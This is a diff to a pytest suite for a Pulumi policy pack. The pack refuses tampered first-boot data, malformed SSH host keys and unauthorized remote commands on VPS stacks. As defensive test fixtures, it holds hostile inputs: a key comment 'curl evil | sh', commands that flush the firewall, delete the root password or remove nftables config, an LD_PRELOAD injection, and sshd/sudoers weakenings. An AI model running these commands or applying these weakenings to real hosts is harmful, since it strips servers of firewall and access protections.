@@ -13,9 +13,14 @@ import base64
 import bz2
 import copy
 import gzip
+import io
 import json
 import lzma
 import re
+import shutil
+import subprocess
+import tarfile
+import tempfile
 import time
 from dataclasses import replace
 from email.mime.multipart import MIMEMultipart
@@ -31,13 +36,14 @@ from packaging.requirements import Requirement
 from pulumi_policy.proxy import UNKNOWN_NUMBER_VALUE
 
 from components import firstboot
-from components.config import load_stack_file
+from components.config import load_stack_file, parse_host_spec
 from components.firstboot import (
     HOST_KEY_PATH,
     HostFile,
     describe_first_boot,
     linode_user_data,
     render_cloud_config,
+    render_first_boot,
     render_launch_script,
 )
 from components.mockrun import run_program
@@ -49,9 +55,10 @@ from policy.offline import (
     check_resource,
     check_stack,
     evaluate,
+    run_case,
     run_stack_file_case,
 )
-from tests.conftest import ROOT, STACK_FILES, full_config
+from tests.conftest import ED25519_KEY, ROOT, STACK_FILES, full_config, raw_config
 
 PROD = "prod"
 DEV_STACKS = ("do-dev", "linode-dev", "lightsail-dev")
@@ -93,8 +100,8 @@ def test_pack_files_and_policy_set() -> None:
     assert [p.name for p in hp.POLICIES] == [
         "server-firewall-attached", "resource-types-allowed", "firewall-inbound-ports", "ssh-open-to-internet",
         "production-ssh-restricted",
-        "server-first-boot-data", "first-boot-no-secrets", "production-backups-and-protection",
-        "server-size-in-catalog"]
+        "server-first-boot-data", "first-boot-no-secrets", "remote-commands-are-the-products",
+        "production-backups-and-protection", "server-size-in-catalog"]
     levels = {p.name: p.enforcement_level.value for p in hp.POLICIES if p.enforcement_level}
     assert levels.pop("ssh-open-to-internet") == "advisory"
     assert set(levels.values()) == {"mandatory"}
@@ -336,7 +343,8 @@ def _first_boot_props(server: Registered, data: str | None) -> dict[str, Any]:
 @pytest.mark.parametrize("stack", DEV_STACKS)
 def test_bare_server_is_refused(stacks: dict[str, StackCase], stack: str) -> None:
     server = stacks[stack].one(SERVER_OF[stack])
-    (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, None))
+    with analysing(stacks[stack]):
+        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, None))
     assert "no first-boot data" in message and names_resource_and_fix(message, server)
 
 
@@ -349,15 +357,20 @@ def test_bare_server_is_refused(stacks: dict[str, StackCase], stack: str) -> Non
 def test_foreign_first_boot_data_is_refused(stacks: dict[str, StackCase], stack: str, data: str,
                                             expected: str) -> None:
     server = stacks[stack].one(SERVER_OF[stack])
-    (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
+    with analysing(stacks[stack]):
+        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
     assert expected in message and names_resource_and_fix(message, server)
 
 
 def test_wrong_form_for_the_vendor_is_refused(stacks: dict[str, StackCase]) -> None:
     lightsail = stacks["lightsail-dev"].one(hp.LIGHTSAIL_INSTANCE)
     droplet = stacks["do-dev"].one(hp.DROPLET)
-    (message,) = check_resource(hp.first_boot_present, lightsail,
-                                _first_boot_props(lightsail, droplet.inputs["userData"]))
+    lightsail_as_cloud_config = render_cloud_config(describe_first_boot(load_stack_file(
+        ROOT / "stacks" / "Pulumi.lightsail-dev.yaml")))
+    assert hp.plain(droplet.inputs["userData"]) != lightsail_as_cloud_config  # another stack's data: refused too
+    with analysing(stacks["lightsail-dev"]):
+        (message,) = check_resource(hp.first_boot_present, lightsail,
+                                    _first_boot_props(lightsail, lightsail_as_cloud_config))
     assert "#cloud-config is ignored" in message and names_resource_and_fix(message, lightsail)
 
 
@@ -366,7 +379,9 @@ def test_bundle_without_provisioning_script_is_refused(stacks: dict[str, StackCa
     first_boot = describe_first_boot(spec)
     gutted = replace(first_boot, files=tuple(f for f in first_boot.files if f.path != hp.PROVISION_SCRIPT))
     server = stacks["do-dev"].one(hp.DROPLET)
-    (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, render_cloud_config(gutted)))
+    with analysing(stacks["do-dev"]):
+        (message,) = check_resource(hp.first_boot_present, server,
+                                    _first_boot_props(server, render_cloud_config(gutted)))
     assert hp.PROVISION_SCRIPT in message and names_resource_and_fix(message, server)
 
 
@@ -405,7 +420,8 @@ def test_first_boot_data_must_equal_a_fresh_render_of_its_bundle(stacks: dict[st
     assert raw is not None
     data = weaken(raw.data)
     assert data != raw.data
-    (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
+    with analysing(stacks[stack]):
+        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
     assert "differs from a fresh render" in message and names_resource_and_fix(message, server)
 
 
@@ -423,9 +439,174 @@ def test_first_boot_check_follows_the_renderer(stacks: dict[str, StackCase], mon
     monkeypatch.setattr(firstboot, "render_launch_script", wrapped)
     spec = load_stack_file(ROOT / "stacks" / "Pulumi.lightsail-dev.yaml")
     new = firstboot.render_launch_script(describe_first_boot(spec))
-    assert check_resource(hp.first_boot_present, server, _first_boot_props(server, new)) == []
-    (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, old))
+    with analysing(stacks["lightsail-dev"]):
+        assert check_resource(hp.first_boot_present, server, _first_boot_props(server, new)) == []
+        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, old))
     assert "differs from a fresh render" in message
+
+
+# The red-team proof: weaken the bundle itself, then re-render it with the project's own renderer. The wrapper then
+# matches the bundle perfectly; only a comparison with the render for the stack's config tells it is not ours.
+SSHD_DROPIN = "/etc/ssh/sshd_config.d/10-hvps-hardening.conf"
+
+
+def _edit(first_boot: firstboot.FirstBoot, path: str, edit: Any) -> firstboot.FirstBoot:
+    return replace(first_boot, files=tuple(replace(f, content=edit(f.content)) if f.path == path else f
+                                          for f in first_boot.files))
+
+
+def _early_exit(fb: firstboot.FirstBoot) -> firstboot.FirstBoot:
+    return _edit(fb, hp.PROVISION_SCRIPT, lambda c: c.replace("set -euo pipefail\n", "set -euo pipefail\nexit 0\n", 1))
+
+
+def _password_root_login(fb: firstboot.FirstBoot) -> firstboot.FirstBoot:
+    return _edit(fb, SSHD_DROPIN, lambda c: c.replace("PermitRootLogin no", "PermitRootLogin yes")
+                 .replace("PasswordAuthentication no", "PasswordAuthentication yes"))
+
+
+def _with_file(path: str, content: str, mode: str = "0600") -> Any:
+    return lambda fb: replace(fb, files=(HostFile(path, content, mode), *fb.files))
+
+
+def _mode(path: str, mode: str) -> Any:
+    return lambda fb: replace(fb, files=tuple(replace(f, mode=mode) if f.path == path else f for f in fb.files))
+
+
+WEAKENINGS = {
+    "provision-exits-early": (_early_exit, hp.PROVISION_SCRIPT),
+    "sshd-password-and-root-login": (_password_root_login, SSHD_DROPIN),
+    "sshd-dropin-sorting-first": (_with_file("/etc/ssh/sshd_config.d/00-x.conf", "PasswordAuthentication yes\n"),
+                                  "/etc/ssh/sshd_config.d/00-x.conf"),
+    "root-authorized-keys": (_with_file("/root/.ssh/authorized_keys", ED25519_KEY + "\n"),
+                             "/root/.ssh/authorized_keys"),
+    "sudoers-world-writable": (_mode("/etc/sudoers.d/90-hvps-admin", "0666"), "/etc/sudoers.d/90-hvps-admin"),
+}
+
+
+@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
+@pytest.mark.parametrize("weakening", list(WEAKENINGS))
+def test_weakened_bundle_rendered_anew_is_refused(stacks: dict[str, StackCase], stack: str, weakening: str) -> None:
+    """The bundle must be what the templates make for THIS stack's config, not merely match its own wrapper."""
+    weaken, path = WEAKENINGS[weakening]
+    case = stacks[stack]
+    server = case.one(SERVER_OF[stack])
+    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
+    weakened = weaken(describe_first_boot(spec))
+    assert weakened != describe_first_boot(spec)
+    data = hp.render_as_vendor(server.type, weakened)
+    props = _first_boot_props(server, data)
+    with analysing(case):
+        assert check_resource(hp.first_boot_present, server) == []  # the data the program sends passes
+        (message,) = check_resource(hp.first_boot_present, server, props)
+        assert check_resource(hp.first_boot_secrets, server, props) == []  # nothing secret: only this policy can tell
+    assert "not what components/firstboot renders for this stack's config" in message and path in message
+    assert names_resource_and_fix(message, server)
+
+
+def test_another_stacks_first_boot_is_refused(stacks: dict[str, StackCase]) -> None:
+    """prod's first boot (its admin keys, SSH ranges, domain) on the do-dev droplet: rendered by the product,
+    but not for this stack."""
+    prod_data = hp.plain(stacks[PROD].one(hp.DROPLET).inputs["userData"])
+    server = stacks["do-dev"].one(hp.DROPLET)
+    with analysing(stacks["do-dev"]):
+        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, prod_data))
+    assert "not what components/firstboot renders for this stack's config" in message
+
+
+def _ssh_string(data: bytes) -> bytes:
+    return len(data).to_bytes(4, "big") + data
+
+
+def openssh_key(cipher: bytes = b"none", keys: int = 1, key_type: bytes = b"ssh-ed25519", comment: bytes = b"",
+                secret_tail: bytes | None = None, width: int = 70, trailer: str = "") -> str:
+    """An OpenSSH private key built from PROTOCOL.key, with one part changed at a time (test material only)."""
+    point, seed = bytes(range(32)), bytes(range(32, 64))
+    public = _ssh_string(key_type) + _ssh_string(point)
+    private = (b"\x01\x02\x03\x04" * 2 + _ssh_string(key_type) + _ssh_string(point)
+               + _ssh_string(seed + (point if secret_tail is None else secret_tail)) + _ssh_string(comment))
+    private += bytes(range(1, 1 + (-len(private) % 8)))
+    blob = (b"openssh-key-v1\0" + _ssh_string(cipher) + _ssh_string(cipher if cipher == b"none" else b"bcrypt")
+            + _ssh_string(b"" if cipher == b"none" else b"salt") + keys.to_bytes(4, "big")
+            + _ssh_string(public) * keys + _ssh_string(private))
+    body = base64.b64encode(blob).decode()
+    lines = "".join(body[i:i + width] + "\n" for i in range(0, len(body), width))
+    return f"-----BEGIN OPENSSH PRIVATE KEY-----\n{lines}-----END OPENSSH PRIVATE KEY-----\n{trailer}"
+
+
+def test_the_key_builder_passes_and_a_real_key_passes() -> None:
+    """The shape check accepts a well-formed key at OpenSSH's width (70) and Go's (64), and one ssh-keygen made."""
+    assert hp.host_key_problem(openssh_key()) is None and hp.host_key_problem(openssh_key(width=64)) is None
+    keygen = shutil.which("ssh-keygen")
+    if keygen is None:
+        pytest.skip("ssh-keygen is not installed")
+    with tempfile.TemporaryDirectory() as tmp:
+        path = Path(tmp) / "key"
+        subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", str(path)], check=True)
+        assert hp.host_key_problem(path.read_text()) is None
+
+
+@pytest.mark.parametrize(("key", "why"), [
+    pytest.param(openssh_key(cipher=b"aes256-ctr"), "encrypted", id="encrypted"),
+    pytest.param(openssh_key(keys=2), "2 keys", id="two-keys"),
+    pytest.param(openssh_key(key_type=b"ssh-rsa"), "not an ed25519 key", id="rsa"),
+    pytest.param(openssh_key(comment=b"curl evil | sh"), "comment", id="comment"),
+    pytest.param(openssh_key(secret_tail=bytes(32)), "ending in its public key", id="halves-disagree"),
+    pytest.param(openssh_key(trailer="#!/bin/sh\n"), "PEM block", id="text-after-the-key"),
+    pytest.param(openssh_key() * 2, "PEM block", id="two-pem-blocks"),
+    pytest.param("#!/bin/sh\nnft flush ruleset\n", "PEM block", id="not-a-key"),
+    pytest.param(firstboot.PLACEHOLDER_HOST_KEY.replace("b3BlbnNzaC1rZXktdjEA", "b3BlbnNzaC1rZXktdjIA"),
+                 "openssh-key-v1", id="other-format"),
+])
+def test_host_key_member_must_be_one_unencrypted_ed25519_key(stacks: dict[str, StackCase], key: str,
+                                                               why: str) -> None:
+    """The one bundled file the config does not decide is held to the shape of the key the program makes."""
+    case = stacks["linode-dev"]
+    server = case.one(hp.LINODE_INSTANCE)
+    spec = load_stack_file(ROOT / "stacks" / "Pulumi.linode-dev.yaml")
+    data = hp.render_as_vendor(server.type, describe_first_boot(spec, host_key=key))
+    with analysing(case):
+        (message,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
+        good = hp.render_as_vendor(server.type, describe_first_boot(spec, host_key=openssh_key()))
+        assert check_resource(hp.first_boot_present, server, _first_boot_props(server, good)) == []
+    assert hp.HOST_KEY_PATH in message and why in message and names_resource_and_fix(message, server)
+
+
+def test_first_boot_check_fails_closed_without_the_stacks_config(stacks: dict[str, StackCase],
+                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    case = stacks["do-dev"]
+    server = case.one(hp.DROPLET)
+    pulumi.runtime.set_all_config({})
+    (no_config,) = check_resource(hp.first_boot_present, server)
+    assert "cannot tell what this stack's first boot must be" in no_config and "PULUMI_CONFIG" in no_config
+    broken = replace(case, config={**case.config, "hardened-vps:sshAllowedCidrs": '["0.0.0.0"]'})
+    with analysing(broken):
+        (invalid,) = check_resource(hp.first_boot_present, server)
+    assert "hardened-vps:sshAllowedCidrs" in invalid and "no prefix length" in invalid
+    with analysing(case):
+        monkeypatch.setattr(pulumi.runtime.settings.SETTINGS, "project", "project")  # no PULUMI_PROJECT/STACK
+        (nameless,) = check_resource(hp.first_boot_present, server)
+    assert "PULUMI_STACK" in nameless and names_resource_and_fix(nameless, server)
+
+
+@pytest.mark.parametrize("value", [None, "[secret]", "v1:ciphertext-the-pack-cannot-read", "DB_PASSWORD=x\n"])
+def test_secret_keys_neither_shape_nor_break_the_first_boot_check(stacks: dict[str, StackCase],
+                                                                  value: str | None) -> None:
+    """appSecrets and deployPrivateKey travel over SSH after boot: absent, encrypted or plain in what the pack
+    sees, the verdict on the first boot is the same (and the render does not depend on them)."""
+    case = stacks[PROD]
+    server = case.one(hp.DROPLET)
+    config = {k: v for k, v in case.config.items() if not k.endswith((":appSecrets", ":deployPrivateKey"))}
+    seen = config if value is None else {**config, "hardened-vps:appSecrets": value,
+                                         "hardened-vps:deployPrivateKey": value}
+    with analysing(replace(case, config=seen)):
+        assert check_resource(hp.first_boot_present, server) == []
+    raw = {k.removeprefix("hardened-vps:"): v for k, v in config.items() if k.startswith("hardened-vps:")}
+    spec = parse_host_spec(raw, stack=PROD, base_dir=ROOT)
+    with_secrets = parse_host_spec({**raw, "appSecrets": "DB_PASSWORD=x\nAPI_TOKEN=y\n",
+                                    "deployPrivateKey": openssh_key()}, stack=PROD, base_dir=ROOT)
+    assert with_secrets.app is not None and with_secrets.app.secret_names == ("DB_PASSWORD", "API_TOKEN")
+    assert describe_first_boot(with_secrets) == describe_first_boot(spec)
+    assert {"appSecrets", "deployPrivateKey"} <= hp.NOT_IN_FIRST_BOOT
 
 
 # --- first-boot-no-secrets ---------------------------------------------------------------------------------------
@@ -453,7 +634,9 @@ def test_private_key_inside_the_bundle_is_found(stacks: dict[str, StackCase], st
     server = stacks[stack].one(SERVER_OF[stack])
     data = _rendered_with(stack, HostFile("/root/.ssh/id_ed25519", PRIVATE_KEY, "0600"))
     props = _first_boot_props(server, data)
-    assert check_resource(hp.first_boot_present, server, props) == []  # still this project's data
+    with analysing(stacks[stack]):  # not this stack's first boot: the render for its config has no such file
+        (refused,) = check_resource(hp.first_boot_present, server, props)
+    assert "/root/.ssh/id_ed25519" in refused and "holds files the render does not" in refused
     (message,) = check_resource(hp.first_boot_secrets, server, props)
     assert "private key" in message and "root/.ssh/id_ed25519:1" in message
     assert "gzip" in message and names_resource_and_fix(message, server)
@@ -482,7 +665,8 @@ def test_secrets_in_the_cloud_config_itself_are_found(stacks: dict[str, StackCas
              "write_files:\n- path: /root/key.b64\n  encoding: b64\n  content: "
              + base64.b64encode(PRIVATE_KEY.encode()).decode() + "\n")
     data = hp.plain(server.inputs["userData"]).replace("\nwrite_files:\n", "\n" + extra, 1)  # before the bundle's entry
-    (refused,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
+    with analysing(stacks["do-dev"]):
+        (refused,) = check_resource(hp.first_boot_present, server, _first_boot_props(server, data))
     assert "differs from a fresh render" in refused  # and the secrets scan still names what it holds:
     messages = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
     assert any("cloud-config password" in m and "chpasswd.users[0].password" in m for m in messages), messages
@@ -582,6 +766,46 @@ def test_only_the_pinned_host_key_may_travel_in_first_boot(stacks: dict[str, Sta
     data = _rendered_with(stack, HostFile(HOST_KEY_PATH + ".bak", PRIVATE_KEY, "0600"))
     (message,) = check_resource(hp.first_boot_secrets, server, _first_boot_props(server, data))
     assert "private key" in message and "ssh_host_ed25519_key.bak:1" in message
+
+
+def _tar(name: str, content: str) -> bytes:
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
+        info = tarfile.TarInfo(name)
+        info.size = len(content.encode())
+        tar.addfile(info, io.BytesIO(content.encode()))
+    return raw.getvalue()
+
+
+RSA_PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n" \
+          "-----END RSA PRIVATE KEY-----\n"
+
+
+@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
+@pytest.mark.parametrize("case_", ["nested-bundle", "other-key-at-the-path", "second-key-member", "encrypted-key"])
+def test_host_key_exemption_covers_only_the_bundles_own_key(stacks: dict[str, StackCase], stack: str,
+                                                            case_: str) -> None:
+    """The secrets scan spares one private key: the member at the host-key path of the top-level bundle, once,
+    shaped as the program makes it. The same path inside a bundled archive, an RSA or encrypted key there, or a
+    second member of that name is reported."""
+    server = stacks[stack].one(SERVER_OF[stack])
+    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
+    first_boot = describe_first_boot(spec)
+    if case_ == "nested-bundle":
+        nested = base64.encodebytes(_tar(hp.HOST_KEY_PATH.lstrip("/"), RSA_PEM)).decode()
+        first_boot = replace(first_boot, files=(*first_boot.files, HostFile("/etc/hvps/extra.b64", nested, "0600")))
+    elif case_ == "second-key-member":
+        first_boot = replace(first_boot, files=(*first_boot.files, HostFile(hp.HOST_KEY_PATH, RSA_PEM, "0600")))
+    else:
+        key = RSA_PEM if case_ == "other-key-at-the-path" else openssh_key(cipher=b"aes256-ctr")
+        first_boot = describe_first_boot(spec, host_key=key)
+    props = _first_boot_props(server, hp.render_as_vendor(server.type, first_boot))
+    messages = check_resource(hp.first_boot_secrets, server, props)
+    # Linode's user data is two layers deeper (base64 of gzip): there the nested copy is past the depth limit,
+    # refused as unreadable; everywhere else the key itself is reported.
+    expected = "layers deep" if (stack, case_) == ("linode-dev", "nested-bundle") else "plaintext private key"
+    assert messages and all(expected in m and "ssh_host_ed25519_key" in m for m in messages), messages
+    assert all(names_resource_and_fix(m, server) for m in messages)
 
 
 def test_clean_first_boot_has_no_findings_in_any_layer(stacks: dict[str, StackCase]) -> None:
@@ -743,4 +967,137 @@ def test_every_type_the_product_builds_is_allowed(vendor: str, region: str) -> N
     assert [t for t in types if hp.type_not_allowed(t)] == []
     (server,) = [r for r in run.resources if r.type in hp.SERVER_VENDORS]
     raw = hp.raw_first_boot(server.type, server.inputs)
-    assert raw is not None and hp.check_first_boot(server.type, raw).problem is None and hp.find_secrets(raw) == []
+    spec = parse_host_spec({k.removeprefix("hardened-vps:"): v for k, v in config.items()
+                            if k.startswith("hardened-vps:")}, stack="test")
+    assert raw is not None and hp.check_first_boot(server.type, raw, spec).problem is None
+    assert hp.find_secrets(raw) == []
+
+
+# --- remote-commands-are-the-products ------------------------------------------------------------------------------
+def _release(case: StackCase, name_end: str) -> Registered:
+    (found,) = [r for r in case.resources if r.type.startswith("command:remote:") and r.name.endswith(name_end)]
+    return found
+
+
+def _with_inputs(case: StackCase, reg: Registered, **inputs: Any) -> StackCase:
+    """The stack with one resource's inputs (and outputs) changed; None removes an input."""
+    def edit(values: dict[str, Any]) -> dict[str, Any]:
+        return {k: v for k, v in {**values, **inputs}.items() if v is not None}
+    return replace(case, resources=[replace(r, inputs=edit(r.inputs), outputs=edit(r.outputs)) if r is reg else r
+                                    for r in case.resources])
+
+
+def _mandatory(case: StackCase) -> list[tuple[str, str, str]]:
+    return [(v.policy, v.resource, v.message) for v in evaluate(case) if v.mandatory]
+
+
+def _connection(reg: Registered, **changes: Any) -> dict[str, Any]:
+    wrapped = copy.deepcopy(reg.inputs["connection"])
+    hp.plain(wrapped).update(changes)
+    return dict(wrapped)
+
+
+@pytest.mark.parametrize(("edit", "why"), [
+    pytest.param(lambda c: {"create": "sudo nft flush ruleset; " + c}, "not the product's deploy command",
+                 id="firewall-flushed-first"),
+    pytest.param(lambda c: {"create": c + "; sudo passwd -d root"}, "not the product's deploy command",
+                 id="appended-command"),
+    pytest.param(lambda c: {"update": "sudo nft flush ruleset"}, "sets update", id="update-command"),
+    pytest.param(lambda c: {"delete": "sudo rm -rf /etc/nftables.conf"}, "sets delete", id="delete-command"),
+    pytest.param(lambda c: {"environment": {"LD_PRELOAD": "/tmp/x.so"}}, "sets environment", id="environment"),
+])
+def test_a_remote_command_other_than_the_deploy_is_refused(stacks: dict[str, StackCase], edit: Any, why: str) -> None:
+    """A command:remote:Command connects as the admin (sudo without password): only the product's deploy may run."""
+    case = stacks[PROD]
+    deploy = _release(case, "-deploy")
+    ((policy, resource, message),) = _mandatory(_with_inputs(case, deploy, **edit(deploy.inputs["create"])))
+    assert policy == "remote-commands-are-the-products" and deploy.name in resource
+    assert why in message and names_resource_and_fix(message, deploy)
+
+
+def test_the_deploy_must_run_as_the_admin_with_the_host_key_pinned(stacks: dict[str, StackCase]) -> None:
+    case = stacks[PROD]
+    deploy = _release(case, "-deploy")
+    for change, why in (({"user": "root"}, "not as the admin account"), ({"hostKey": ""}, "host key"),
+                        ({"proxy": {"host": "203.0.113.9"}}, "connection sets proxy")):
+        ((policy, _, message),) = _mandatory(_with_inputs(case, deploy, connection=_connection(deploy, **change)))
+        assert policy == "remote-commands-are-the-products" and why in message
+
+
+@pytest.mark.parametrize(("upload", "target", "why"), [
+    pytest.param("-script", "/etc/sudoers.d/00-all", "copies to '/etc/sudoers.d/00-all'", id="outside-uploads"),
+    pytest.param("-script", "/home/deploy/.hvps-uploads/hvps-release-0000000000000000.sh", "copies to",
+                 id="another-name-in-the-upload-dir"),
+    pytest.param("-archive", None, "source is not the file", id="other-archive-content"),
+    pytest.param("-script", None, "source is not the file", id="other-script-content"),
+])
+def test_an_upload_other_than_the_release_is_refused(stacks: dict[str, StackCase], tmp_path: Path, upload: str,
+                                                     target: str | None, why: str) -> None:
+    """CopyToRemote drops files as the admin: only the release script and this release's app archive, by content,
+    at the paths the product names."""
+    case = stacks[PROD]
+    reg = _release(case, upload)
+    other = tmp_path / "other"
+    other.write_text("#!/bin/sh\nsudo nft flush ruleset\n")
+    edited = _with_inputs(case, reg, remotePath=target) if target else _with_inputs(
+        case, reg, source=pulumi.FileAsset(str(other)))
+    ((policy, resource, message),) = _mandatory(edited)
+    assert policy == "remote-commands-are-the-products" and reg.name in resource
+    assert why in message and names_resource_and_fix(message, reg)
+
+
+def test_a_remote_command_in_a_stack_without_an_app_is_refused(stacks: dict[str, StackCase]) -> None:
+    deploy = _release(stacks[PROD], "-deploy")
+    case = stacks["do-dev"]
+    stranger = replace(deploy, urn=deploy.urn.replace(f"::{PROD}::", "::do-dev::"), parent="")
+    found = _mandatory(replace(case, resources=[*case.resources, stranger]))
+    assert [(p, m) for p, _, m in found if "appSource is unset" in m] and {p for p, _, _ in found} == {
+        "remote-commands-are-the-products"}
+
+
+def test_other_command_types_are_refused(stacks: dict[str, StackCase]) -> None:
+    case = stacks[PROD]
+    for type_ in ("command:remote:CopyFile", "command:local:Command"):
+        extra = _foreign(case, type_)
+        ((message, urn),) = check_stack([*case.resources, extra])
+        assert urn == extra.urn and type_ in message
+
+
+def test_remote_command_check_follows_the_product(stacks: dict[str, StackCase],
+                                                  monkeypatch: pytest.MonkeyPatch) -> None:
+    """The pack calls components/app: when the deploy command changes there, the new one passes and the old
+    one is refused."""
+    from components import app
+
+    case = stacks[PROD]
+    deploy = _release(case, "-deploy")
+    old = deploy.inputs["create"]
+    original = app.deploy_command
+    monkeypatch.setattr(app, "deploy_command", lambda *a, **k: original(*a, **k) + " --verbose")
+    spec = load_stack_file(ROOT / "stacks" / "Pulumi.prod.yaml")
+    shape = hp.release_shape(spec, with_secrets=False)
+    assert shape is not None and shape.command == old + " --verbose"
+    assert _mandatory(_with_inputs(case, deploy, create=shape.command)) == []
+    ((_, _, message),) = _mandatory(case)
+    assert "not the product's deploy command" in message
+
+
+def test_git_source_release_passes_and_fails_closed_without_config(stacks: dict[str, StackCase]) -> None:
+    """A git appSource: the deploy and the script upload of the product pass; without the stack's config the
+    pack cannot tell what the release must be and refuses every remote command."""
+    config = full_config(appSource="https://github.com/example/app.git", appRef="v1.2.3")
+    _, case = run_case(config)
+    assert [r.type for r in case.resources if r.type.startswith("command:")] == [hp.REMOTE_COPY, hp.REMOTE_COMMAND]
+    assert _mandatory(case) == []
+    found = [(v.policy, v.message) for v in evaluate(replace(case, config={})) if v.mandatory]
+    remote = [m for p, m in found if p == "remote-commands-are-the-products"]
+    assert len(remote) == 2 and all("fails closed" in m for m in remote)
+
+
+@pytest.mark.parametrize("host_name", [f"web{'x' * n}" for n in range(8)])
+def test_launch_script_payload_is_never_read_past_its_end(host_name: str) -> None:
+    """The heredoc's end line is not base64, so the scan never decodes payload + end line as one block (whose
+    trailing bytes after the gzip stream it would refuse): clean for every payload length modulo 4."""
+    spec = parse_host_spec(raw_config(vendor="lightsail", region="eu-central-1", hostName=host_name))
+    raw = hp.RawFirstBoot(render_first_boot(spec).launch_script, "userData")
+    assert hp.find_secrets(raw) == []
